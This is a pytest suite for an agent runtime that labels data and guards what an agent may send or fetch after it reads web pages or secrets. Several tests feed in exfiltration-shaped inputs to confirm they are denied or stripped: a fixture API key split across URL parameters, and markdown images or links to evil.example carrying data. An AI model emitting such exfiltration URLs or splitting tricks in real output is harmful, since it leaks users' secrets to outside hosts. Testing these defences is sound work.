"""Labels, addresses and private strings in whole runs: what is asked, what is denied, what is kept."""

from __future__ import annotations

import asyncio
import json
import tempfile
from collections.abc import Iterable, Sequence
from pathlib import Path
from typing import Any

import pytest

from egress.testing import RecordingFetch, ScriptedAnswer
from runtime_pack import (
    ApprovalRequired,
    AuditLog,
    CatalogTool,
    Completed,
    ContractError,
    Decision,
    Label,
    LoopResult,
    MemoryRunStore,
    Remember,
    SystemMessage,
    TaskContract,
    ToolMessage,
    ToolOutput,
    ToolPolicy,
    ToolRule,
    ToolSpec,
    Turn,
    TurnInput,
    UserMessage,
    build_web_tool_catalog,
    create_agent_runtime,
    create_agent_task_run,
    create_fixture_web_search_provider,
    create_web_tool_runtime,
    resume_governed_agent_loop,
    run_governed_agent_loop,
)
from runtime_pack.remembered import remembered_rule
from runtime_pack.seal import seal_rule
from runtime_pack.testing import ListEmitter, ScriptedModel, calls, reply
from web_tools.search import SearchHit

SECRET_KEY = "sk-live-9f8e7d6c5b4a3928"
EMAIL = "alice@corp.example"
PUBLIC_PAGE = Label(integrity="external", confidentiality="public")
DOCS = "https://docs.example/guide"
TEXT = {"type": "object", "properties": {"to": {"type": "string"}, "body": {"type": "string"}}}


def tool(name: str, output: ToolOutput | str = "done", **fields: Any) -> CatalogTool:
    async def handler(arguments: Any, context: Any) -> Any:
        del arguments, context
        return output

    given: Any = {"parameters": TEXT, **fields}
    return CatalogTool(spec=ToolSpec(name=name, description="d", **given), handler=handler)


MAIL = tool("mail:send", side_effects=["message"], destination_args=["to"], output_trust="internal")
FILES = tool(
    "files:read",
    f"the invoice INV-2291-77 is for {EMAIL}",
    side_effects=["read_local"],
    output_trust="internal",
    output_confidentiality="workspace",
)
VAULT = tool(
    "vault:read",
    f"the key is {SECRET_KEY}",
    side_effects=["read_local"],
    output_trust="internal",
    output_confidentiality="secret",
)


def page(*links: str, body: str = "words") -> ScriptedAnswer:
    listed = "".join(f'<p><a href="{link}">{link[-3:]} of the page</a></p>' for link in links)
    html = f"<html><body><p>{body}</p>{listed}</body></html>".encode()
    return ScriptedAnswer(headers=(("content-type", "text/html"),), chunks=(html,))


def redirect(to: str) -> ScriptedAnswer:
    return ScriptedAnswer(status=302, headers=(("location", to),), chunks=())


class Stage:
    """One run over a scripted web and some tools of the host."""

    def __init__(
        self,
        *turns: Turn,
        pages: Sequence[ScriptedAnswer] = (),
        tools: Sequence[CatalogTool] = (MAIL, FILES, VAULT),
        hits: Iterable[SearchHit] = (),
        allow: Sequence[str] = ("docs.example", "*.docs.example", "other.example"),
        log: Path | None = None,
        preset: str = "standard",
        policy: ToolPolicy | None = None,
        **given: Any,
    ) -> None:
        contract: Any = {"preset": preset, "tool_policy": policy or ToolPolicy()}
        self.fetch = RecordingFetch(list(pages))
        self.audit = None if log is None else AuditLog(log)
        self.run = create_agent_task_run(
            TaskContract(**contract), run_id="run-labels", audit=self.audit, **given
        )
        base = create_agent_runtime(model=ScriptedModel(turns), tools=tools)
        self.runtime = create_web_tool_runtime(
            self.run.guard_runtime(base),
            provider=create_fixture_web_search_provider(hits),
            allowlist=allow,
            emitter=ListEmitter(),
            fetch=self.fetch,
        )
        self.catalog = (*build_web_tool_catalog(), *(each.spec for each in tools))
        self.store = MemoryRunStore()

    async def go(self, *said: str | UserMessage | SystemMessage) -> LoopResult:
        messages = [UserMessage(text=each) if isinstance(each, str) else each for each in said]
        return await run_governed_agent_loop(
            runtime=self.runtime,
            execute_turn_input=TurnInput(messages=messages, tool_catalog=self.catalog),
            store=self.store,
        )

    async def resume(self, store: MemoryRunStore, *decisions: Decision) -> LoopResult:
        self.store = store
        return await resume_governed_agent_loop(
            runtime=self.runtime, store=store, run_id="run-labels", decisions=decisions
        )

    @property
    def fetched(self) -> list[str]:
        return [target.url for target in self.fetch.requests]


def read(url: str, name: str = "r") -> Turn:
    return calls((name, "web:read", json.dumps({"url": url})))


def send(body: str = "hello", to: str = "bob", name: str = "m") -> Turn:
    return calls((name, "mail:send", json.dumps({"to": to, "body": body})))


def look(name: str, key: str = "l") -> Turn:
    return calls((key, name, "{}"))


def codes(result: LoopResult) -> list[str | None]:
    """The code of each result, None for one that is fine."""
    return [
        None if message.ok else json.loads(message.text)["code"]
        for message in result.messages
        if isinstance(message, ToolMessage)
    ]


def rules(result: LoopResult) -> list[tuple[str, ...]]:
    return [request.rules for request in result.requests]


def decide(result: LoopResult, verdict: str = "approve", **more: Any) -> Decision:
    (request,) = result.requests
    given: dict[str, Any] = {"verdict": verdict, "decided_by": "a person", **more}
    return Decision(request_id=request.request_id, **given)


def logged(log: Path) -> list[Any]:
    return [json.loads(line) for line in log.read_text().splitlines()]


def run_with_log(main: Any) -> None:
    with tempfile.TemporaryDirectory() as folder:
        asyncio.run(main(Path(folder) / "run.jsonl"))


# ── the water-line ────────────────────────────────────────────────────────────────────────────


def test_a_message_is_free_before_a_page_and_asked_about_after_it() -> None:
    """The page may have asked for it."""

    async def main() -> None:
        stage = Stage(send(), read(DOCS), send(name="m2"), pages=[page()])
        result = await stage.go("go")

        assert isinstance(result, ApprovalRequired)
        assert rules(result) == [("message",)]
        (request,) = result.requests
        assert request.destinations == {"to": "bob"}
        assert request.label == PUBLIC_PAGE
        assert any(source.startswith("docs.example#") for source in request.label.sources)

    asyncio.run(main())


def test_a_call_is_judged_with_what_its_siblings_will_bring() -> None:
    """Those that stand before it in the response; those after it have not run."""

    async def main() -> None:
        together = calls(
            ("m1", "mail:send", '{"to":"bob"}'),
            ("r", "web:read", json.dumps({"url": DOCS})),
            ("m2", "mail:send", '{"to":"eve"}'),
        )
        stage = Stage(together, pages=[page()])
        result = await stage.go("go")

        assert [request.destinations["to"] for request in result.requests] == ["eve"]

    asyncio.run(main())


def test_the_label_survives_a_suspension_and_another_process() -> None:
    """So does what is known to be private, and which addresses are known."""

    async def main() -> None:
        first = Stage(look("files:read"), read(DOCS), send(name="m1"), pages=[page()])
        waiting = await first.go(f"see {DOCS}")
        after = Stage(
            read(f"https://docs.example/?q={EMAIL}", "r2"),
            read("https://docs.example/composed", "r3"),
        )
        result = await after.resume(first.store, decide(waiting, "deny"))

        assert after.run.label == Label(integrity="external", confidentiality="workspace")
        assert codes(result)[-2:] == ["POLICY_DENIED", "APPROVAL_REQUIRED"]
        assert rules(result) == [("model_composed",)]
        assert after.fetched == []

    asyncio.run(main())


def test_every_message_has_the_label_of_what_made_it() -> None:
    """What the model says has that of what it had read."""

    async def main() -> None:
        stage = Stage(read(DOCS), reply("answer"), pages=[page()])
        result = await stage.go("go")
        labels = {
            type(m).__name__: m.label for m in result.messages if not isinstance(m, SystemMessage)
        }

        assert labels["ToolMessage"] == PUBLIC_PAGE
        assert labels["AssistantMessage"] == PUBLIC_PAGE
        assert labels["UserMessage"] == Label(integrity="user", confidentiality="public")

    asyncio.run(main())


def test_what_a_tool_does_not_say_is_external_and_of_the_workspace() -> None:
    """Nothing that it returns lowers that, and the tool is named as the source."""

    async def main() -> None:
        clean = ToolOutput(
            ok=True, text="x", label=Label(integrity="user", confidentiality="public")
        )
        stage = Stage(look("mcp:any"), reply(), tools=[tool("mcp:any", clean)])
        await stage.go("go")

        assert stage.run.label == Label()
        assert stage.run.label.sources == {"tool:mcp:any"}

    asyncio.run(main())


# ── addresses ─────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("said", "url", "expected"),
    [
        (f"read {DOCS}", DOCS, None),
        ("read docs.example/guide", DOCS, None),
        (SystemMessage(text=f"you may start at {DOCS}"), DOCS, None),
        (UserMessage(text=f"mail: {DOCS}", label=Label()), DOCS, "POLICY_DENIED"),
        ("go", DOCS, "POLICY_DENIED"),
        (f"read {DOCS}", f"{DOCS}?x=1", "POLICY_DENIED"),
    ],
)
def test_strictly_an_address_has_to_be_known(said: Any, url: str, expected: str | None) -> None:
    """From the user, the operator, a search or a page; pasted mail makes nothing known."""

    async def main() -> None:
        stage = Stage(read(url), reply(), pages=[page()], preset="strict")
        result = await stage.go("go", said)

        assert codes(result) == [expected]
        assert stage.fetched == ([url] if expected is None else [])

    asyncio.run(main())


def test_strictly_search_results_and_page_links_are_known() -> None:
    """And nothing beside them."""

    async def main() -> None:
        hit = SearchHit(title="t", url="https://docs.example/hit", snippet="https://docs.example/s")
        stage = Stage(
            calls(("s", "web:search", '{"query":"x"}')),
            read("https://docs.example/hit", "r1"),
            read("https://docs.example/next", "r2"),
            read("https://docs.example/nexT", "r3"),
            reply(),
            pages=[page("https://docs.example/next"), page()],
            hits=[hit],
            preset="strict",
        )
        result = await stage.go("go")

        assert codes(result) == [None, None, None, "POLICY_DENIED"]
        assert stage.fetched == ["https://docs.example/hit", "https://docs.example/next"]

    asyncio.run(main())


def test_a_search_result_is_known_better_than_a_link() -> None:
    """With data of the workspace it is read, where the link of a page is asked about; so after a restart."""

    async def main() -> None:
        hit = SearchHit(title="t", url="https://docs.example/hit", snippet="s")
        first = Stage(
            look("files:read"),
            calls(("s", "web:search", '{"query":"x"}')),
            send(),
            hits=[hit],
            preset="strict",
        )
        waiting = await first.go("go")
        after = Stage(
            read("https://docs.example/hit"),
            read("https://docs.example/next", "r2"),
            pages=[page("https://docs.example/next")],
            preset="strict",
        )
        result = await after.resume(first.store, decide(waiting, "deny"))

        assert after.fetched == ["https://docs.example/hit"]
        assert rules(result) == [("page_link",)]

    asyncio.run(main())


@pytest.mark.parametrize(
    "turn",
    [
        calls(("m", "mail:send", {"to": SECRET_KEY[12:], "body": SECRET_KEY[:12]})),
        calls(("m", "mail:send", {"to": SECRET_KEY[:12], "body": SECRET_KEY[12:]})),
        calls(("m", "mail:send", {"to": f"https://docs.example/?a={SECRET_KEY[12:]}&b={SECRET_KEY[:12]}"})),
        read(f"https://docs.example/?a={SECRET_KEY[:12]}&b={SECRET_KEY[12:]}"),
        read(f"https://docs.example/?b={SECRET_KEY[12:]}&a={SECRET_KEY[:12]}"),
        read(f"https://docs.example/?{SECRET_KEY[16:]}&{SECRET_KEY[8:16]}&x={SECRET_KEY[:8]}"),
    ],
)  # fmt: skip
def test_a_private_string_that_is_shared_out_goes_nowhere(turn: Turn) -> None:
    """Over arguments or parameters, in any order."""

    async def main() -> None:
        stage = Stage(turn, reply(), pages=[page()], private_strings=[SECRET_KEY])
        result = await stage.go("go")

        assert codes(result) == ["POLICY_DENIED"]
        assert stage.fetched == []

    asyncio.run(main())


def test_a_denial_tells_the_model_which_rule_and_where_without_the_payload() -> None:
    """So that it can explain; the log has the same."""

    async def main(log: Path) -> None:
        url = f"https://docs.example/?d={SECRET_KEY[::-1]}"
        stage = Stage(read(url), reply(), log=log, private_strings=[SECRET_KEY])
        result = await stage.go("go")
        (told,) = [m for m in result.messages if isinstance(m, ToolMessage)]
        events = logged(log)
        (decided,) = [event for event in events if event["code"] == "LBL003D"]

        assert json.loads(told.text)["rules"] == [
            {
                "rule": "private_data_in_url",
                "verdict": "deny",
                "context": "clean",
                "host": "docs.example",
            }
        ]
        assert decided["decision"]["rules"] == json.loads(told.text)["rules"]
        assert SECRET_KEY[::-1] not in json.dumps(logged(log))
        assert stage.fetched == []
        assert [step.rules for step in result.steps if step.rules] == [("private_data_in_url",)]

    run_with_log(main)


def test_needless_escapes_tell_nobody_anything() -> None:
    """What is fetched is the canonical form, however it was asked for."""

    async def main() -> None:
        stage = Stage(
            read("https://docs.example/%67ui%64e"), reply(), pages=[page()], preset="strict"
        )
        await stage.go(f"read {DOCS}")

        assert stage.fetched == [DOCS]

    asyncio.run(main())


def test_the_choice_of_links_is_counted_over_a_restart() -> None:
    """Of a page of 256 links two may be followed; the account goes with the run."""
    links = [f"https://x{number:03}.docs.example/" for number in range(256)]

    async def main() -> None:
        first = Stage(
            read(DOCS, "r0"),
            read(links[1], "r1"),
            send(),
            pages=[page(*links), page()],
            preset="strict",
        )
        waiting = await first.go(f"read {DOCS}")
        after = Stage(read(links[2], "r2"), read(links[3], "r3"), pages=[page()], preset="strict")
        result = await after.resume(first.store, decide(waiting, "deny"))

        assert rules(result) == [("link_budget",)]
        assert after.fetched == [links[2]]

    asyncio.run(main())


# ── redirects ─────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("preset", "before", "to", "followed"),
    [
        ("standard", [], "https://docs.example/b", True),
        ("standard", [], "https://other.example/b", True),
        ("standard", ["files:read"], "https://other.example/b", False),
        ("strict", [], "https://docs.example/b", True),
        ("strict", [], "https://other.example/b", False),
        ("strict", ["files:read"], "https://docs.example/b", False),
    ],
)
def test_a_redirect_is_a_new_link_of_the_page(
    preset: str, before: list[str], to: str, followed: bool
) -> None:
    """Where it is not followed, it is returned, and can be asked for."""

    async def main() -> None:
        turns = [*(look(name) for name in before), read(DOCS), reply()]
        stage = Stage(*turns, pages=[redirect(to), page()], preset=preset)
        result = await stage.go(f"read {DOCS}")
        last = [m for m in result.messages if isinstance(m, ToolMessage)][-1]

        assert stage.fetched == ([DOCS, to] if followed else [DOCS])
        assert last.ok
        assert to in last.text
        assert ('kind="redirect"' in last.text) is not followed

    asyncio.run(main())


def test_a_redirect_is_denied_where_a_link_is() -> None:
    """Nothing of it is fetched once something secret was read."""

    async def main() -> None:
        stage = Stage(
            look("vault:read"),
            read(DOCS),
            pages=[redirect("https://docs.example/b")],
        )
        waiting = await stage.go(f"read {DOCS}")
        assert rules(waiting) == [("read_net_known",)]
        after = Stage(reply(), pages=[redirect("https://docs.example/b")])
        result = await after.resume(stage.store, decide(waiting))

        assert codes(result) == [None, "POLICY_DENIED"]
        assert after.fetched == [DOCS]

    asyncio.run(main())


# ── approvals ─────────────────────────────────────────────────────────────────────────────────


def test_no_standing_approval_answers_a_label_rule() -> None:
    """Neither is one made, nor does one that was made before answer."""

    async def main() -> None:
        policy = ToolPolicy([ToolRule(tool="mail:*", approval_class="request_user")])
        first = Stage(send(), policy=policy)
        waiting = await first.go("go")
        after = Stage(read(DOCS), send(name="m2"), policy=policy, pages=[page()])
        second = await after.resume(
            first.store,
            decide(
                waiting, remember={"lasts_seconds": "unlimited", "max_label": Label().to_json()}
            ),
        )

        assert rules(second) == [("message",)]
        last = Stage(reply(), policy=policy)
        refused = await last.resume(after.store, decide(second, remember={}))
        assert refused.stop is not None
        assert refused.stop.code == "DECISION_REFUSED"

    asyncio.run(main())


def test_a_rule_that_somebody_sealed_all_the_same_answers_no_label_rule() -> None:
    """Even one that names the very reasons, and carries the seal of the store."""

    async def main() -> None:
        first = Stage(read(DOCS), send(), pages=[page()])
        (request,) = (await first.go("go")).requests
        rule = remembered_rule(
            "rem-1",
            request,
            Remember(max_label=Label()),
            arguments=request.arguments,
            decided_by="somebody",
            now=request.created_at,
        )
        after = Stage(read(DOCS, "r2"), send(), pages=[page()])
        after.run.memory.keep(seal_rule(after.store.seal, rule))
        result = await after.go("go")

        assert rules(result) == [("message",)]

    asyncio.run(main())


def test_an_approval_under_another_policy_is_none() -> None:
    """What a person said under one preset is asked again under the other."""

    async def main() -> None:
        first = Stage(read(DOCS), send(), pages=[page()])
        waiting = await first.go(f"read {DOCS}")
        after = Stage(preset="strict")
        again = await after.resume(first.store, decide(waiting))

        assert isinstance(again, ApprovalRequired)
        assert again.requests[0].request_id != waiting.requests[0].request_id
        assert again.requests[0].binding != waiting.requests[0].binding
        last = Stage(reply(), preset="strict")
        assert isinstance(await last.resume(after.store, decide(again)), Completed)

    asyncio.run(main())


def test_an_address_that_a_person_wrote_is_the_users() -> None:
    """Who edits the arguments names the address."""

    async def main() -> None:
        policy = ToolPolicy([ToolRule(tool="web:read", approval_class="request_user")])
        first = Stage(read(DOCS), policy=policy, preset="strict")
        waiting = await first.go(f"read {DOCS}")
        after = Stage(reply(), pages=[page()], policy=policy, preset="strict")
        edited = "https://docs.example/another"
        result = await after.resume(first.store, decide(waiting, edited_args={"url": edited}))

        assert isinstance(result, Completed)
        assert after.fetched == [edited]

    asyncio.run(main())


def test_a_denied_message_carries_what_is_secret_and_no_person_is_asked() -> None:
    """An approval cannot be had for it."""

    async def main() -> None:
        stage = Stage(send(f"see {SECRET_KEY}"), reply(), private_strings=[SECRET_KEY])
        result = await stage.go("go")

        assert codes(result) == ["POLICY_DENIED"]

    asyncio.run(main())


def test_a_policy_that_denies_is_not_loosened() -> None:
    """Nor one that asks, where no label rule minds."""

    async def main() -> None:
        for word, expected in (("deny", "POLICY_DENIED"), ("request_user", "APPROVAL_REQUIRED")):
            policy = ToolPolicy([ToolRule(tool="mail:*", approval_class=word)])
            result = await Stage(send(), reply(), policy=policy).go("go")

            assert codes(result) == [expected]

    asyncio.run(main())


# ── private strings ───────────────────────────────────────────────────────────────────────────


def test_a_saved_run_is_not_taken_up_without_what_was_declared_private() -> None:
    """It holds digests of them, never the strings."""

    async def main() -> None:
        first = Stage(read(DOCS), send(), pages=[page()], private_strings=[SECRET_KEY])
        waiting = await first.go("go")
        saved = await first.store.load("run-labels")

        assert SECRET_KEY.encode() not in saved.head + b"".join(saved.rows)
        with pytest.raises(ContractError, match="private_strings"):
            await Stage(reply()).resume(first.store, decide(waiting))
        after = Stage(reply(), private_strings=[SECRET_KEY])
        assert isinstance(await after.resume(first.store, decide(waiting, "deny")), Completed)

    asyncio.run(main())


@pytest.mark.parametrize("strings", [["short"], ["a-b-c-d-e"], [7], "a-long-string-77"])
def test_what_could_be_found_by_chance_cannot_be_declared(strings: Any) -> None:
    """Eight letters and digits at least, in a list."""
    with pytest.raises(ContractError, match="private_strings"):
        Stage(private_strings=strings)


def test_a_search_for_what_the_workspace_shares_is_asked_about() -> None:
    """And one for what is secret is denied."""

    async def main() -> None:
        def search(query: str) -> Turn:
            return calls(("s", "web:search", json.dumps({"query": query})))

        shared = await Stage(look("files:read"), search("who is INV-2291-77"), reply()).go("go")
        other = await Stage(look("files:read"), search("weather"), reply()).go("go")
        secret = await Stage(look("vault:read"), search(SECRET_KEY.upper()), reply()).go("go")

        assert (codes(shared)[1], codes(other)[1], codes(secret)[1]) == (
            "APPROVAL_REQUIRED",
            None,
            "POLICY_DENIED",
        )

    asyncio.run(main())


# ── the log ───────────────────────────────────────────────────────────────────────────────────


def test_a_rise_of_the_label_is_in_the_log_once() -> None:
    """With what it was, what it is, and what brought it."""

    async def main(log: Path) -> None:
        stage = Stage(
            read(DOCS, "r1"), read(DOCS + "2", "r2"), look("files:read"), reply(),
            pages=[page(), page()], log=log,
        )  # fmt: skip
        await stage.go("go")
        events = logged(log)
        raised = [event["object"] for event in events if event["code"] == "LBL001O"]

        assert [(each["from"], each["to"]) for each in raised] == [
            (
                {"integrity": "user", "confidentiality": "public"},
                {"integrity": "external", "confidentiality": "public"},
            ),
            (
                {"integrity": "external", "confidentiality": "public"},
                {"integrity": "external", "confidentiality": "workspace"},
            ),
        ]
        assert any(source.startswith("docs.example#") for source in raised[0]["sources"])

    run_with_log(main)


def test_a_question_to_a_person_is_in_the_log_with_its_rules() -> None:
    """Beside the request itself."""

    async def main(log: Path) -> None:
        stage = Stage(read(DOCS), send(), pages=[page()], log=log)
        result = await stage.go("go")
        events = logged(log)
        (asked,) = [event for event in events if event["code"] == "LBL002O"]
        (request,) = [event for event in events if event["code"] == "APR001O"]
        reasons = list(result.requests[0].reasons)

        assert [rule["rule"] for rule in asked["decision"]["rules"]] == ["message"]
        assert request["decision"]["reasons"] == reasons

    run_with_log(main)


# ── the answer ────────────────────────────────────────────────────────────────────────────────


def test_an_answer_after_a_page_shows_no_image_that_nobody_knows() -> None:
    """It is text, in the result and in the history; one that the user named stays."""

    async def main(log: Path) -> None:
        answer = "![ok](https://docs.example/i.png) ![no](https://evil.example/x.png?d=1)"
        stage = Stage(read(DOCS), reply(answer), pages=[page()], log=log)
        result = await stage.go("show https://docs.example/i.png with it")
        shown = "![ok](https://docs.example/i.png) !\\[no](https://evil.example/x.png?d=1)"

        assert result.text == shown
        assert result.messages[-1].text == shown
        assert "LBL004O" in [event["code"] for event in logged(log)]

    run_with_log(main)


def test_an_answer_before_any_page_is_as_the_model_wrote_it() -> None:
    """Nobody else could have asked for what is in it."""

    async def main() -> None:
        answer = "![x](https://anywhere.example/x.png)"
        assert (await Stage(reply(answer)).go("go")).text == answer

    asyncio.run(main())


def test_a_link_of_an_answer_that_carries_something_private_is_removed() -> None:
    """Whatever was read; the site is told, and the payload is not."""

    async def main() -> None:
        answer = f"see https://evil.example/?k={SECRET_KEY} now"
        stage = Stage(reply(answer), private_strings=[SECRET_KEY])

        assert (await stage.go("go")).text == "see (link removed: evil.example) now"

    asyncio.run(main())
